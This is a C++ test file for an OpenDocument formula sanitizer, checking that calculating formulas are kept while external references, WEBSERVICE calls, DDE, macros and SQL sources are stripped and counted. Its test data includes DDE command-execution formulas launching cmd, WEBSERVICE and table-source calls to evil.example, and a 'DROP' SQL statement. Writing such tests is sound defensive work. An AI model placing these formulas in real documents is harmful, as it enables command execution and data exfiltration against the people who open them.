#include "expect.h"
#include "sanitizers/odf/formulas.h"

namespace mugai::test::odf {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

std::string_view verdict(std::string_view formula, UrlPolicy urls = UrlPolicy::defang) {
  static sanitize::Tally tally;
  const sanitize::Links links(urls, tally);
  const sanitize::odf::FormulaVerdict result = sanitize::odf::judge_formula(formula, links);
  if (result.stays) return "stays";
  return result.what.empty() ? "link" : result.what;
}

TEST(OdfFormulas, ThoseThatCalculateStay) {
  for (const char* formula : {"=SUM([.A1:.A3])*1.1", "=[$表2.B2]&\"#//|\"", "=[$'二 枚目'.A1]", "=IF([.A1]>0;\"有\";\"無\")", "={1;2|3;4}", "=COM.MICROSOFT.CONCAT([.A1];\"x\")", "=#REF!",
                              "=COM.SUN.STAR.SHEET.ADDIN.ANALYSIS.GETWORKDAY([.A1];5)", "=LEGACY.NORMSDIST(1)", "cell-content-is-in-list(\"甲\";\"乙\")", "value()>=0",
                              "cell-content()=\"x\"", "is-true-formula([.A1]>1)", "表1.A1:表1.B2", "=[.A1]-SUM([.B1])", "=INDIRECT(\"A\"&[.B1])", "contains-text(\"件\")", "=#N/A"})
    EXPECT_EQ(verdict(formula), "stays") << formula;
}

TEST(OdfFormulas, WriterHasItsOwnLanguage) {
  sanitize::Tally tally;
  const sanitize::Links links(UrlPolicy::defang, tally);
  const auto stays = [&](std::string_view formula) { return sanitize::odf::judge_formula(formula, links, sanitize::odf::FormulaLanguage::writer).stays; };
  for (const char* formula : {"sum <A1:A5>|<B1>", "姓 EQ \"甲\"", "round(<A1>*1.1)", "pow(2)"}) EXPECT_TRUE(stays(formula)) << formula;
  for (const char* formula : {"=WEBSERVICE(1)", "=['file:///a'#$A.A1]", "evil(1)"}) EXPECT_FALSE(stays(formula)) << formula;
}

TEST(OdfFormulas, ThoseThatReachOutDoNot) {
  const struct { const char *formula, *what; } rows[] = {
      {"=['file:///C:/a.ods'#$Sheet1.A1]", "external-formula"}, {"='http://evil.example/a'#$A.A1", "external-formula"}, {"=[\\\\srv\\a.ods]Sheet1!A1", "external-formula"},
      {"=WEBSERVICE(\"http://evil.example/\")", "external-formula"}, {"=COM.MICROSOFT.WEBSERVICE([.A1])", "external-formula"}, {"=DDE(\"cmd\";\"/c calc\";\"a\")", "dde"},
      {"=cmd|'/c calc'!A1", "dde"}, {"=MYMACRO([.A1])", "external-formula"}, {"=INDIRECT(\"'file:///C:/a.ods'#$Sheet1.A1\")", "external-formula"}, {"=webservice (\"x\")", "external-formula"},
      {"=HYPERLINK(\"http://city.example/\";\"市\")", "link"}, {"=HYPERLINK([.A1])", "link"}, {"=[file:///a#$Sheet1.A1]", "external-formula"}};
  for (const auto& row : rows) EXPECT_EQ(verdict(row.formula), row.what) << row.formula;
  EXPECT_EQ(verdict("=HYPERLINK(\"http://city.example/\";\"市\")", UrlPolicy::keep), "stays");
  EXPECT_EQ(verdict("=HYPERLINK(\"http://a.example/\"&[.A1])", UrlPolicy::keep), "link");
  EXPECT_EQ(verdict("=HYPERLINK(\"file:///a\")", UrlPolicy::keep), "link");
}

TEST(OdfSheet, AForbiddenFormulaLeavesTheValueOfItsCell) {
  const std::string cells = "<table:table-cell table:formula=\"of:=SUM([.B1:.C1])\" office:value-type=\"float\" office:value=\"3\"><text:p>3</text:p></table:table-cell>"
                            "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;http://evil.example/&quot;)\" office:value-type=\"string\" office:string-value=\"旧\"><text:p>旧</text:p></table:table-cell>"
                            "<table:table-cell table:formula=\"x:=evil\" xmlns:x=\"urn:x\" office:value-type=\"float\" office:value=\"4\"/>"
                            "<table:table-cell table:formula=\"o:=WEBSERVICE(1)\" xmlns:o=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\" office:value-type=\"float\" office:value=\"5\"/>";
  const std::string all = treated(OdfBytes::sheet(cells).file(), "a.ods");
  EXPECT_THAT(all, HasSubstr("<table:table-cell table:formula=\"of:=SUM([.B1:.C1])\" office:value-type=\"float\" office:value=\"3\">"));
  EXPECT_THAT(all, HasSubstr("<table:table-cell office:value-type=\"string\" office:string-value=\"旧\"><text:p>旧</text:p>"));
  EXPECT_THAT(all, AllOf(Not(HasSubstr("evil")), Not(HasSubstr("WEBSERVICE")), HasSubstr("office:value=\"4\""), HasSubstr("office:value=\"5\"")));
  EXPECT_EQ(count_of(rebuild_file(OdfBytes::sheet(cells).file(), "a.ods"), "external-formula"), 3u);
}

TEST(OdfSheet, APrefixIsWhatTheDocumentSaysThatItIs) {
  const std::string cell = "<table:table-cell xmlns:calc=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\" table:formula=\"calc:=[.B1]\"/>";
  EXPECT_THAT(treated(OdfBytes::sheet(cell).file(), "a.ods"), HasSubstr("<table:table-cell table:formula=\"of:=[.B1]\"/>"));
}

TEST(OdfSheet, NamesValidationsFiltersAndFormatsStay) {
  const std::string after = "<table:named-expressions><table:named-range table:name=\"範囲\" table:base-cell-address=\"$表.$A$1\" table:cell-range-address=\"$表.$A$1:.$B$2\"/>"
                            "<table:named-expression table:name=\"式\" table:base-cell-address=\"$表.$A$1\" table:expression=\"of:=SUM([.A1:.B2])\"/></table:named-expressions>"
                            "<table:database-ranges><table:database-range table:name=\"d\" table:target-range-address=\"表.A1:表.B2\" table:display-filter-buttons=\"true\"><table:filter>"
                            "<table:filter-condition table:field-number=\"0\" table:value=\"甲\" table:operator=\"=\"/></table:filter></table:database-range></table:database-ranges>";
  EXPECT_THAT(treated(OdfBytes::sheet("", after).file(), "a.ods"), HasSubstr(after));
}

TEST(OdfSheet, SourcesElsewhereGo) {
  const std::string after = "<table:named-expressions><table:named-expression table:name=\"n\" table:expression=\"['file:///C:/evil.ods'#$A.$A$1]\"/><table:named-range table:name=\"evil\" table:cell-range-address=\"'file:///a'#$A.A1\"/></table:named-expressions>"
                            "<table:database-ranges><table:database-range table:name=\"d\" table:target-range-address=\"表.A1:表.B2\"><table:database-source-sql table:database-name=\"evil\" table:sql-statement=\"DROP\"/></table:database-range></table:database-ranges>"
                            "<table:dde-links><table:dde-link><office:dde-source office:dde-application=\"evil\"/></table:dde-link></table:dde-links>"
                            "<table:table table:name=\"'file:///C:/evil.ods'#$Sheet1\"><table:table-source xlink:href=\"file:///C:/evil.ods\"/></table:table>"
                            "<table:table table:name=\"連結\"><table:table-source xlink:href=\"http://evil.example/a.ods\"/><table:table-row><table:table-cell><table:cell-range-source xlink:href=\"http://evil.example/\"/><text:p>値</text:p></table:table-cell></table:table-row></table:table>"
                            "<table:content-validations><table:content-validation table:name=\"v\" table:condition=\"of:cell-content()&gt;0\"><table:error-macro table:execute=\"true\"/></table:content-validation></table:content-validations>";
  const std::string all = treated(OdfBytes::sheet("", after).file(), "a.ods");
  EXPECT_THAT(all, AllOf(Not(HasSubstr("evil")), Not(HasSubstr("DROP")), HasSubstr("連結"), HasSubstr("値"), HasSubstr("table:condition=\"of:cell-content()&gt;0\"")));
  const RebuiltFile result = rebuild_file(OdfBytes::sheet("", after).file(), "a.ods");
  EXPECT_EQ(count_of(result, "external-formula"), 2u);
  EXPECT_EQ(count_of(result, "external-reference"), 3u);
  for (const char* what : {"data-connection", "dde", "macro"}) EXPECT_EQ(count_of(result, what), 1u) << what;
}

}  // namespace
}  // namespace mugai::test::odf
